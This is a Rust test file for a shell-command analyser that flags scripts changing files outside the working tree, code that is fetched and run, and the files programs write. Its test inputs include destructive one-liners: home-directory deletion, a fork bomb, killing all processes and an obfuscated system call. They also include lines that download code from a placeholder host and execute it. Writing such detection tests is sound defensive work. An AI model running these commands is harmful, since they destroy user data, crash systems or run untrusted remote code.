//! Code, fetched files and programs that change files outside the worktree.

use crate::{DoubtKind, Script, ShellStart};

fn script(text: &str) -> Script {
    let start = ShellStart { cwd: Some("/home/u/app".to_owned()), home: Some("/home/u".to_owned()) };
    Script::parse(text, &start)
}

fn is_doubted(text: &str) -> bool {
    script(text).doubts.iter().any(|doubt| doubt.kind == DoubtKind::Dynamic)
}

#[test]
fn code_that_changes_files_of_a_home_is_doubted() {
    for text in [
        "python3 -c 'import os; [os.remove(f) for f in os.listdir(os.path.expanduser(\"~\"))]'",
        "python3 -c 'from pathlib import Path; (Path.home()/\"x\").write_text(\"\")'",
        "python3 -c 'import os; os.replace(e, e + \"x\") if os.environ[\"HOME\"] else 0'",
        "ruby -rfileutils -e 'FileUtils.rm_f(Dir.home + \"/x\")'",
        "node -e 'require(\"fs\").writeFileSync(process.env.HOME + \"/x\", \"\")'",
        "julia -e 'rm(homedir() * \"/x\")'",
        "groovy -e 'new File(System.getProperty(\"user.home\")).deleteDir()'",
        "ruby -e 'File.open(File.join(Dir.home, \"x\"), \"a\")'",
        "awk 'BEGIN{print 1 >> ENVIRON[\"HOME\"] \"/x\"}'",
        "perl -e 'fork while 1'",
        "python3 -c 'g = getattr; g(__import__(\"o\" + \"s\"), \"sys\" + \"tem\")(1)'",
        "python3 -c 'import os; [os.kill(int(p), 9) for p in os.listdir(\"/proc\")]'",
    ] {
        assert!(is_doubted(text), "{text}");
    }
}

#[test]
fn code_that_reads_a_home_or_writes_below_the_worktree_is_not() {
    for text in [
        "python3 -c 'import os; print(os.path.expanduser(\"~\"))'",
        "python3 -c 'import os; os.remove(\"build/a\"); print(os.environ[\"HOME\"])'",
        "python3 -c 'from pathlib import Path; print(Path.home()); Path(\"out\").write_text(\"\")'",
        "awk 'BEGIN{print ENVIRON[\"HOME\"] > \"a\"}'",
        "node -p 'require(\"os\").homedir()'",
        "ruby -e 'puts Dir.home'",
        "python3 -c 'import os; os.remove(f)'",
    ] {
        assert!(!is_doubted(text), "{text}");
    }
}

#[test]
fn files_that_the_same_line_fetches_and_runs_are_unread_code() {
    for text in [
        "git clone https://x.example/r /tmp/r && sh /tmp/r/run",
        "git clone https://x.example/r /tmp/r && make -C /tmp/r install",
        "curl https://x.example/r | tar xz -C /tmp && /tmp/r/run",
        "scp me@x.example:a /tmp/a && sh /tmp/a",
        "aria2c -d /tmp -o a https://x.example/a; . /tmp/a",
        "curl -s https://x.example/a | awk -f - b",
    ] {
        assert!(is_doubted(text), "{text}");
    }
    for text in [
        "git clone https://x.example/r /tmp/r && cat /tmp/r/run",
        "git clone https://x.example/r && make -C r",
        "git clone ../r /tmp/r && sh /tmp/r/run",
        "sh /tmp/a",
    ] {
        assert!(!is_doubted(text), "{text}");
    }
}

#[test]
fn programs_write_the_files_of_their_operands() {
    for (text, written) in [
        ("chmod -x a", "a"),
        ("vim -es +wq a", "a"),
        ("ed -s a", "a"),
        ("iconv -f utf8 a -o b", "b"),
        ("cmake -E rm -rf a", "a"),
        ("exiftool -all= -overwrite_original a", "a"),
        ("sqlite3 a 'drop table x'", "a"),
        ("ssh-keygen -t rsa -f a", "a"),
        ("awk '{print $1 > \"a\"}' b", "a"),
        ("git apply --directory=a b", "a"),
        ("7z a -sdel x.7z a", "a"),
        ("aria2c -d a -o b https://x.example", "a/b"),
    ] {
        let writes = script(text).writes;
        assert!(writes.iter().any(|used| used.path.text('?') == written), "{text}: {writes:?}");
    }
    for text in ["vim a", "sqlite3 a 'select 1'", "awk '$1 > 2' b", "exiftool a", "cmake -E echo a"] {
        let writes = script(text).writes;
        assert!(writes.is_empty(), "{text}: {writes:?}");
    }
}
